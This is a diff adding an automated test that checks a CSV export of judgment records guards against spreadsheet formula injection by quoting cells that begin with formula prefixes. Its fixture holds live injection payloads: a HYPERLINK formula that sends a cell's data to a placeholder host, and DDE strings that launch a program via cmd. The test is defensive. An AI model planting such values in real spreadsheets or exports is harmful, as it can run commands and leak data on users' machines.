@@ -1,0 +1,45 @@
+import { parse } from 'csv-parse/sync';
+import { CSV_COLUMNS } from '../../src/api/judgments-csv';
+import { TEST_DATABASES } from '../support/databases';
+import { specExample } from '../support/qimen-push';
+import { startTestService, TestService } from '../support/test-service';
+import { FINANCE_CONFIG, TOKENS } from './finance-fixture';
+
+/** Text a spreadsheet would run as a formula: the HTTP contract's prefixes =, +, -, @, tab and carriage return. */
+const HOSTILE = {
+  '=': '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
+  '+': '+1+cmd|\' /C calc\'!A0',
+  '-': '-2+3+cmd|\' /C calc\'!A0',
+  '@': '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  tab: '\t=1+1',
+  'carriage return': '\r=1+1',
+};
+
+describe.each(TEST_DATABASES)('GET /api/judgments.csv with formula text in the judgments on %s', (kind) => {
+  let svc: TestService;
+  let records: Record<string, string>[];
+
+  beforeAll(async () => {
+    svc = await startTestService(kind, FINANCE_CONFIG);
+    for (const [i, text] of Object.values(HOSTILE).entries()) {
+      const judgment = { ...specExample(), externalOrderId: text, tenantId: i === 0 ? '=1+2' : 'MAOCHAO' };
+      expect((await svc.push(judgment)).json.errorId).toBe('success');
+    }
+    const res = await fetch(`${svc.baseUrl}/api/judgments.csv`, { headers: { authorization: `Bearer ${TOKENS.viewer}` } });
+    records = parse(Buffer.from(await res.arrayBuffer()), { bom: true, columns: true });
+  });
+  afterAll(() => svc.close());
+
+  it.each(Object.entries(HOSTILE))('writes a cell beginning with %s with a leading quote, the text kept after it', (_prefix, text) => {
+    const cells = records.map((r) => r.externalOrderId);
+    expect(cells).toContain(`'${text}`);
+    expect(cells).not.toContain(text);
+  });
+
+  it('leaves no cell of the export beginning with a formula prefix', () => {
+    const cells = records.flatMap((r) => CSV_COLUMNS.map((c) => r[c]));
+    expect(cells.length).toBe(Object.keys(HOSTILE).length * CSV_COLUMNS.length);
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(records.map((r) => r.tenantId)).toContain("'=1+2");
+  });
+});
